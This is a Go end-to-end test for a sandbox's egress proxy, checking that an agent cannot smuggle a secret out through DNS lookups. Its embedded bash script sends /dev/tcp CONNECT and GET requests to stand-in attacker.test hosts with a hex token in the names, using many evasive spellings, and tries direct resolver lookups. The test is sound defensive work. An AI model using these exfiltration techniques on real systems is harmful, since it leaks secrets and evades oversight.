package e2e

import (
	"crypto/rand"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"net"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// dnsWatch runs the DNS witness (e2e/dnswatch) in the network namespace
// docker run's --network names ("host", or "container:NAME") and returns a
// function that reads what it has seen so far.
func dnsWatch(t *testing.T, network string) func() string {
	t.Helper()
	b := make([]byte, 4)
	_, _ = rand.Read(b)
	name := "git-sandbox-e2e-dnswatch-" + hex.EncodeToString(b)
	out, err := exec.Command("docker", "run", "-d", "--name", name, "--network", network, "--user", "0",
		"--cap-drop", "ALL", "--cap-add", "NET_RAW", "-v", filepath.Join(binDir, "dnswatch")+":/dnswatch:ro",
		baseImage, "/dnswatch").CombinedOutput()
	if err != nil {
		t.Fatalf("docker run dnswatch: %v\n%s", err, out)
	}
	t.Cleanup(func() { _ = exec.Command("docker", "rm", "-f", name).Run() })
	seen := func() string {
		out, _ := exec.Command("docker", "logs", name).CombinedOutput()
		return string(out)
	}
	Eventually(t, 30*time.Second, "the DNS witness in "+network+" to capture", func() bool {
		return strings.HasPrefix(seen(), "ready\n")
	})
	return seen
}

// sendDNSQuery sends a DNS query for name to 127.0.0.1:53 from this
// machine's namespace (nothing need answer): the host witness's proof that
// it sees a query there.
func sendDNSQuery(t *testing.T, name string) {
	t.Helper()
	msg := []byte{0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, l := range strings.Split(name, ".") {
		msg = append(msg, byte(len(l)))
		msg = append(msg, l...)
	}
	msg = append(msg, 0)
	msg = binary.BigEndian.AppendUint16(msg, 1) // A
	msg = binary.BigEndian.AppendUint16(msg, 1) // IN
	c, err := net.Dial("udp", "127.0.0.1:53")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.Write(msg); err != nil {
		t.Fatal(err)
	}
}

// dnsAttack runs in the sandbox: it asks its proxy for names the allow list
// does not hold, each carrying the token $1 (what an agent would carry out
// in a name: a secret, hex-encoded), spelt every way a check could miss,
// asks the engine's resolver for such names directly, and at last asks the
// proxy for the allowed canary $2.
const dnsAttack = `T=$1 C=$2
p=${http_proxy#http://}; ph=${p%:*}; pp=${p##*:}
req() {
	exec 3<>/dev/tcp/$ph/$pp || { echo "no proxy"; return; }
	printf '%s\r\nHost: %s\r\nConnection: close\r\n\r\n' "$1" "$2" >&3
	timeout 15 cat <&3 | head -n 1
	exec 3<&-
}
connect() { req "CONNECT $1 HTTP/1.1" "$1"; }
connect s1-$T.attacker.test:443
connect S2-${T^^}.ATTACKER.TEST:443
connect s3-$T.attacker.test.:443
connect s4-$T.attacker.test..:443
connect $C.s5-$T.attacker.test:443
connect s6-$T.$C:443
connect xn--s7-$T-2ya.attacker.test:443
connect s8-$T:443
connect $(printf 'a%.0s' $(seq 1 60))-s9-$T.attacker.test:443
req "GET http://s10-$T.attacker.test/ HTTP/1.1" "s10-$T.attacker.test"
req "GET http://s11-$T%C3%A9.attacker.test/ HTTP/1.1" "attacker.test"
req "GET / HTTP/1.1" "s12-$T.attacker.test"
for i in $(seq 1 20); do connect m$i-$T.attacker.test:443; done
echo "== direct"
# in parallel: each takes the engine's resolver some 20 s to give up on
timeout 60 getent hosts g1-$T.attacker.test || echo "g1 unresolved" &
timeout 60 getent hosts g2-$T || echo "g2 unresolved" &
timeout 60 getent ahosts G3-${T^^}.attacker.test. || echo "g3 unresolved" &
wait
echo "== canary"
connect $C:443
`

// TestAttackDNSCarriesNothingOut: a DNS lookup is a way out in itself:
// CONNECT <secret>.attacker.example:443 would carry the secret to the
// attacker's name server if the proxy resolved the name before checking
// it, and so would a lookup the agent makes itself if the engine's
// resolver passed outside names on. The agent asks its proxy for many
// names the allow list does not hold (in every spelling) and asks the
// engine's resolver directly; a DNS witness in the proxy's network
// namespace sees every name the proxy asks, one in this machine's
// namespace every query that leaves a container for a name server. Neither
// sees any of those names; both see the allowed canary, which the proxy
// resolves (proof that they would).
func TestAttackDNSCarriesNothingOut(t *testing.T) {
	t.Parallel()
	e := NewEnv(t)
	tok := make([]byte, 6)
	_, _ = rand.Read(tok)
	token := hex.EncodeToString(tok)
	canary := "canary-" + token[:6] + "x.invalid"
	control := "control-" + token[:6] + "x.invalid"
	e.egressConfig(canary)
	e.MustSandbox("start", "dns", "-d", "--agent", "shell", "--", "sleep", "600")
	doc := Inspect(t, e.PsOf("dns").Container)
	if dns, _ := doc["HostConfig"].(map[string]any)["Dns"].([]any); len(dns) != 1 || dns[0] != "127.0.0.1" {
		t.Errorf("agent container's name servers = %v, want only its own loopback", dns)
	}
	proxies := e.sandboxContainers("dns", "proxy")
	if len(proxies) != 1 {
		t.Fatalf("proxy containers = %q", proxies)
	}
	hostSeen := dnsWatch(t, "host")
	proxySeen := dnsWatch(t, "container:"+proxies[0])
	sendDNSQuery(t, control)

	r := e.MustSandbox("exec", "dns", "--", "bash", "-c", dnsAttack, "sh", token, canary)
	out := r.Stdout + r.Stderr
	if strings.Count(out, "403 Forbidden")+strings.Count(out, "400 Bad Request") < 30 {
		t.Errorf("the proxy did not refuse every unlisted name:\n%s", out)
	}
	if strings.Contains(section(out, "direct"), token) {
		t.Errorf("the agent resolved a name itself:\n%s", section(out, "direct"))
	}
	Eventually(t, 60*time.Second, "the proxy's lookup of the allowed canary in both witnesses", func() bool {
		return strings.Contains(proxySeen(), canary) && strings.Contains(hostSeen(), canary) && strings.Contains(hostSeen(), control)
	})
	for what, seen := range map[string]string{"the proxy's namespace": proxySeen(), "this machine's namespace": hostSeen()} {
		for _, line := range strings.Split(seen, "\n") {
			if strings.Contains(strings.ToLower(line), token) {
				t.Errorf("a DNS query in %s carried the agent's token: %q", what, line)
			}
		}
	}
	// Every refusal is in the decision log, none resolved.
	r = e.MustSandbox("net", "dns", "--json")
	denied := 0
	for _, line := range strings.Split(strings.TrimSpace(r.Stdout), "\n") {
		var rec struct {
			Host     string `json:"host"`
			Decision string `json:"decision"`
		}
		if json.Unmarshal([]byte(line), &rec) == nil && rec.Decision == "denied" {
			denied++
		}
	}
	if denied < 30 {
		t.Errorf("%d denials in the decision log, want every unlisted name:\n%s", denied, r.Stdout)
	}
}
